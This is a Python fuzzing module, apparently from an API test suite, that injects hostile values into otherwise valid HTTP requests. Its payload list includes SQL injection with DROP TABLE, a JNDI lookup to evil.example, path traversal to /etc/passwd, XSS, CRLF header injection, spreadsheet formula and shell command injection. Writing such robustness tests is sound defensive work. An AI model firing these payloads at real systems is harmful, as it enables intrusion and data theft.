"""What attackers, spreadsheets, phones and broken programs send, put into a good request one place at a time."""

import copy
import json
from collections.abc import Callable, Iterator, Mapping, Sequence
from dataclasses import dataclass
from itertools import chain, cycle, islice, product
from typing import Any
from urllib.parse import quote, urlencode

TEXTS = (
    "' OR '1'='1",
    "'; DROP TABLE gym_member; -- ",
    '" UNION SELECT password_hash FROM identity_person /*',
    "%' AND SLEEP(5) #\\",
    "100%_[a-z]*?",
    "nul\0byte",
    "half a pair \ud800",
    "\udc00\ud800",
    "emoji \U0001f3cb\ufe0f\u200d\u2640\ufe0f \U0001f1e9\U0001f1f0",
    "last of all \U0010ffff",
    "rtl \u202egnp.exe \u2066\u200f\u200b\ufeff",
    "combining " + "e\u0301" * 20,
    "turkish \u0130\u0131 \u00df \ufb01 \u212b",
    "crlf\r\nSet-Cookie: stolen=1\r\n\r\n<html>",
    "line\u2028separator\u0085\x1b[2J\x7f",
    "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}",
    "${jndi:ldap://evil.example/a}",
    "../../../../etc/passwd",
    "..\\..\\boot.ini",
    "<script>alert(1)</script>",
    "\"><img src=x onerror='alert(1)'>",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "; cat /etc/passwd | sh `id` $(id)",
    "%s%n%x{0.__class__}",
    "nobody\n.\nMAIL FROM:<evil@evil.example>",
    "a\x00' UNION",
    "",
    "   ",
    "null",
    "x" * 121,
    "\U0001f3cb" * 130,
    "y" * 5_000,
    "\u00e6" * 70_000,
)
"""Strings for every place that takes one."""
DATES = ("0001-01-01", "9999-12-31", "2026-02-30", "0000-00-00", "-0001-01-01", "0001-01-01T00:00:00+14:00")
INSTANTS = ("9999-12-31T23:59:59.999999-12:00", "0001-01-01T00:00:00Z", "2026-11-20T12:00:60Z", "1e400", "9" * 30)
NUMBERS = (-1, 0, 2**31, 2**53, 2**63 - 1, 2**63, -(2**63) - 1, 2**64, 10**400, 1e308, 0.1, True, "1e999", "\u0661")
OTHERS: tuple[Any, ...] = (None, [], {}, [[]], {"$gt": ""}, {"__proto__": {"admin": True}}, -(2**63), "1", False)
HEADERS = ("User-Agent", "traceparent", "Authorization", "Content-Type", "Accept", "Cookie", "X-Forwarded-For", "Host")
BODIES = (
    b'{"name": NaN}',
    b'{"price_minor": Infinity, "size": -Infinity, "number": 1e999}',
    b'{"version": ' + b"9" * 5_000 + b"}",
    b"[" * 100_000,
    b'{"a":' * 50_000,
    b'{"name": "\xff\xfe"}',
    b'{"name": "\xed\xa0\x80"}',
    b'{"name": "\\ud800", "\\udc00": 1}',
    b'{"id": 1, "id": {}, "id": "\\u0000"}',
    b"\xef\xbb\xbf{}",
    b"{}\0",
    b"null",
    b'"text"',
    b"",
)
"""Whole bodies."""
FEW = 2
"""So many of the strings go into a place that takes none of them (an id, a day, a number), other ones each time."""
_PLANT = "plant"

Path = tuple[str | int, ...]


@dataclass(frozen=True, slots=True)
class Attack:
    """``request``: keyword arguments of ``client.request``. ``text`` is what was put where ``place`` says.

    ``name`` is the field's, where the body takes any text; else None.
    """

    request: Mapping[str, Any]
    place: str
    text: Any
    name: str | None = None

    @property
    def is_elsewhere(self) -> bool:
        """Whether it asks for another path than was meant: servers read ``%2F`` as a slash."""
        return self.place.startswith("path") and "/" in str(self.text)


class Attacks:
    """Makes attacks out of good requests: all texts where any is taken, or ``texts`` in turn; ``few`` elsewhere."""

    def __init__(self, *, few: int = FEW, texts: int = len(TEXTS)) -> None:
        self._few, self._texts = few, texts
        kinds = {
            "texts": TEXTS,
            "typed": (*TEXTS, *DATES, *INSTANTS),
            "numbers": NUMBERS,
            "others": OTHERS,
            "bodies": BODIES,
        }
        self._turns: dict[str, Iterator[Any]] = {kind: cycle(values) for kind, values in kinds.items()}
        self._headers = cycle(product(HEADERS, TEXTS))

    def _some(self, *kinds: str) -> Iterator[Any]:
        return chain.from_iterable(islice(self._turns[kind], self._few) for kind in kinds)

    def of_body(self, make: Callable[[], Mapping[str, Any]]) -> Iterator[Attack]:
        """In each field at any depth, and as a field's name; each in a request made anew, so that none is a repetition."""
        for path, leaf in _leaves(make()["json"]):
            for text in self._for(leaf):
                yield self._body(make(), path, text, name=_name(path, leaf))
            for other in islice(self._turns["others"], 2):
                yield self._body(make(), path, other)
        for text in self._some("texts"):
            yield self._body(make(), (text,), text)
            yield self._body(make(), ("exceptions",), {text: []})

    def of_whole_body(self, good: Mapping[str, Any]) -> Iterator[Attack]:
        for content in self._some("bodies"):
            yield Attack(_with_content(good, content), "body", content)

    def _for(self, leaf: Any) -> Iterator[Any]:
        if _is_free(leaf):
            yield from islice(self._turns["texts"], self._texts)
        elif isinstance(leaf, int | float) and not isinstance(leaf, bool):
            yield from self._some("numbers", "numbers")
        else:
            yield from self._some("typed")

    @staticmethod
    def _body(good: Mapping[str, Any], path: Path, value: Any, *, name: str | None = None) -> Attack:
        content = json.dumps(_replaced(good["json"], path, value)).encode()
        return Attack(_with_content(good, content), f"body {path}", value, name)

    def of_query(self, good: Mapping[str, Any], left_out: Sequence[str]) -> Iterator[Attack]:
        """In each parameter, also in those that a good request leaves out."""
        for name, value in {**good["params"], **dict.fromkeys(left_out, _PLANT)}.items():
            for text in (
                islice(self._turns["texts"], self._texts) if _is_free(value) else self._some("typed", "numbers")
            ):
                query = urlencode({**good["params"], name: _sendable(text)})
                yield Attack({**good, "params": None, "url": f"{good['url']}?{query}"}, f"query {name}", text)

    def of_path(self, good: Mapping[str, Any], template: str) -> Iterator[Attack]:
        parts, filled = template.split("/"), str(good["url"]).split("/")
        for place, part in enumerate(parts):
            if not part.startswith("{"):
                continue
            for text in (*self._some("texts", "numbers"), filled[place] + "\0", filled[place] + "'--"):
                safe = quote(str(text).encode("utf-8", "surrogatepass"), safe="")[:7_000] or "%20"
                url = "/".join((*filled[:place], safe, *filled[place + 1 :]))
                yield Attack({**good, "url": url}, f"path {part}", text)

    def of_headers(self, good: Mapping[str, Any], number: int) -> Iterator[Attack]:
        """The next ``number`` of every header with every string."""
        for name, text in islice(self._headers, number):
            value = text.encode("utf-8", "surrogatepass")[:4_000]
            yield Attack({**good, "headers": {name: value}}, f"header {name}", text)


def _with_content(good: Mapping[str, Any], content: bytes) -> dict[str, Any]:
    kept = {name: value for name, value in good.items() if name != "json"}
    return {**kept, "content": content, "headers": {"Content-Type": "application/json"}}


def _is_free(leaf: Any) -> bool:
    return isinstance(leaf, str) and _PLANT in leaf


def _name(path: Path, leaf: Any) -> str | None:
    """What a place for free text is called; None of any other place."""
    named = (part for part in reversed(path) if isinstance(part, str))
    return next(named) if _is_free(leaf) else None


def _sendable(value: Any) -> Any:
    """As httpx takes it; a URL may have 64 kB."""
    return value.encode("utf-8", "surrogatepass")[:8_000] if isinstance(value, str) else str(value)[:8_000]


def _leaves(value: Any, path: Path = ()) -> Iterator[tuple[Path, Any]]:
    if isinstance(value, Mapping):
        for name, item in value.items():
            yield from _leaves(item, (*path, name))
    elif isinstance(value, list):
        for place, item in enumerate(value):
            yield from _leaves(item, (*path, place))
    if path and (not isinstance(value, Mapping | list) or not value):
        yield path, value


def _replaced(whole: Any, path: Path, value: Any) -> Any:
    if not path:
        return value
    changed = copy.deepcopy(whole)
    inner = changed
    for part in path[:-1]:
        inner = inner[part]
    inner[path[-1]] = value
    return changed
